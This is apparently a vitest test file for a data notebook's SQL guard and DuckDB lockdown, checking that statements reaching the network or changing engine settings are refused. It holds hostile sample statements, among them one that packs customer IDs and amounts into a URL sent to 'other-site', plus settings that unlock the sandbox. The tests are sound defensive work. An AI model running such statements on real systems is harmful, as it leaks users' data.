// Issue 13: notebook SQL reached the network (read_csv('http://…'), LOAD httpfs, a custom
// extension repository) and could change the engine's settings. Each route is refused twice: by
// the notebook's scan (refusalOf) before DuckDB sees it, and by the engine's lockdown
// (db/session.ts) when the scan is bypassed — both checked here against the Node engine, which
// runs the browser's lockdown statements.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
	refusalOf,
	refusalOfEngineError,
	type RefusalKind
} from '../../../../src/core/notebook/guard';
import { createNodeEngine } from '../../../helpers/node-engine';
import { userFilePath } from '../../../../src/db/session';
import type { Engine } from '../../../../src/db/engine';

/** Statement → the refusal kind (every route the outside attack and the issue name). */
const REFUSED: [string, RefusalKind][] = [
	["SELECT * FROM read_csv('http://127.0.0.1:9/x.csv')", 'network'],
	["SELECT * FROM read_csv_auto('https://example.org/x.csv')", 'network'],
	["SELECT * FROM read_parquet('https://example.org/x.parquet')", 'network'],
	["SELECT * FROM read_json('s3://bucket/key.json')", 'network'],
	["SELECT * FROM read_text(['/clientele/a.csv', 'http://x/y'])", 'network'],
	["SELECT * FROM 'https://example.org/x.csv'", 'network'],
	["SELECT * FROM orders JOIN 'http://x/y.csv' USING (customer_id)", 'network'],
	["DESCRIBE 'http://x/y.csv'", 'network'],
	[
		"SET VARIABLE s = (SELECT string_agg(customer_id || ':' || amount, '_') FROM tx); SELECT * FROM read_csv('http://other-site/x?d=' || getvariable('s'))",
		'network'
	],
	["CREATE SECRET s (TYPE http, BEARER_TOKEN 'x')", 'network'],
	['CREATE OR REPLACE PERSISTENT SECRET s (TYPE s3)', 'network'],
	['SET enable_external_access = true', 'settings'],
	["SET custom_extension_repository = 'http://other-site/'", 'settings'],
	['set lock_configuration=false', 'settings'],
	['RESET enable_external_access', 'settings'],
	['RESET ALL', 'settings'],
	['PRAGMA enable_external_access', 'settings'],
	['PRAGMA memory_limit = 100000', 'settings'],
	['LOAD httpfs', 'extension'],
	['INSTALL httpfs', 'extension'],
	["INSTALL httpfs FROM 'http://other-site/'", 'extension'],
	['FORCE INSTALL httpfs', 'extension'],
	['UPDATE EXTENSIONS', 'extension'],
	["ATTACH 'http://other-site/x.db' AS r", 'database'],
	["ATTACH 'md:' AS r", 'database'],
	['DETACH packed', 'database'],
	['USE packed', 'database'],
	["COPY orders TO 'http://other-site/x.csv'", 'files'],
	["COPY (SELECT * FROM tx) TO '/clientele/out.csv' (FORMAT csv)", 'files'],
	["COPY orders FROM '/clientele/upload_1.csv'", 'files'],
	["EXPORT DATABASE '/clientele/x'", 'files'],
	["IMPORT DATABASE 'http://other-site/x'", 'files'],
	// A refused statement after an allowed one in the same cell.
	['SELECT 1; LOAD httpfs', 'extension'],
	// Comments and case don't hide it.
	['/* hi */ -- x\n  load   HTTPFS', 'extension']
];

const ALLOWED = [
	'SELECT * FROM orders',
	"SELECT 'http://example.org' AS link",
	"SELECT * FROM customers WHERE url LIKE 'https://%'",
	"SELECT concat('https://shop.example/p/', product) FROM tx",
	"SELECT starts_with(note, 'http://') FROM tx",
	"SELECT strptime('date:2024', '%Y')",
	'SET VARIABLE threshold = 100',
	'RESET VARIABLE threshold',
	"PRAGMA table_info('orders')",
	'PRAGMA show_tables',
	'CREATE TABLE secret_stuff AS SELECT 1',
	'CREATE VIEW my_secret AS SELECT 1',
	"UPDATE t SET a = 1 WHERE b = 'http://x'",
	"SELECT * FROM read_csv('/clientele/upload_1.csv')"
];

describe('refusalOf (the notebook refuses before DuckDB)', () => {
	it.each(REFUSED)('refuses %s', (text, kind) => {
		expect(refusalOf(text)?.kind).toBe(kind);
	});
	it.each(ALLOWED)('runs %s', (text) => {
		expect(refusalOf(text)).toBeNull();
	});
	it('names the URL it refused', () => {
		expect(refusalOf("FROM read_csv('http://other-site/x?d=' || 1)")?.what).toBe(
			'http://other-site/x?d='
		);
	});
});

describe('the engine lockdown (when the scan is bypassed)', () => {
	let db: Engine;
	beforeAll(async () => {
		db = await createNodeEngine();
		await db.registerBuffer(userFilePath('mine.csv'), new TextEncoder().encode('a\n1\n'));
	});
	afterAll(async () => {
		await db?.close();
	});

	const refusedByEngine = async (text: string) => {
		const error = await db.exec(text).then(
			() => null,
			(e: unknown) => String(e instanceof Error ? e.message : e)
		);
		expect(error, text).not.toBeNull();
		return refusalOfEngineError(error!);
	};

	it.each([
		["SELECT * FROM read_csv('http://127.0.0.1:9/x.csv')", 'network'],
		["SELECT * FROM read_csv('http:' || '//127.0.0.1:9/x.csv')", 'network'],
		["SELECT * FROM 'https://example.org/x.csv'", 'network'],
		["ATTACH 'http://127.0.0.1:9/x.db' AS r", 'network'],
		["COPY (SELECT 1) TO 'out.csv'", 'network'],
		['LOAD httpfs', 'extension'],
		['SET enable_external_access = true', 'settings'],
		['RESET enable_external_access', 'settings'],
		["SET custom_extension_repository = 'http://127.0.0.1:9/'", 'settings'],
		['SET autoload_known_extensions = true', 'settings'],
		["SET allowed_directories = ['/']", 'settings'],
		['SET lock_configuration = false', 'settings']
	] as [string, RefusalKind][])('refuses %s', async (text, kind) => {
		expect((await refusedByEngine(text))?.kind).toBe(kind);
	});

	it('still reads the files the user gave, including one added after the lockdown', async () => {
		expect(await db.query(`SELECT a FROM read_csv('${userFilePath('mine.csv')}')`)).toEqual([
			{ a: 1 }
		]);
		await db.registerBuffer(userFilePath('later.csv'), new TextEncoder().encode('a\n2\n'));
		expect(await db.query(`SELECT a FROM read_csv('${userFilePath('later.csv')}')`)).toEqual([
			{ a: 2 }
		]);
	});

	it('keeps the settings that keep data in', async () => {
		const rows = await db.query<{ name: string; value: string }>(
			`SELECT name, value FROM duckdb_settings() WHERE name IN
			('enable_external_access', 'autoinstall_known_extensions', 'autoload_known_extensions',
			 'lock_configuration', 'allowed_directories') ORDER BY name`
		);
		expect(Object.fromEntries(rows.map((r) => [r.name, r.value]))).toEqual({
			allowed_directories: '[/clientele/]',
			autoinstall_known_extensions: 'false',
			autoload_known_extensions: 'false',
			enable_external_access: 'false',
			lock_configuration: 'true'
		});
	});
});
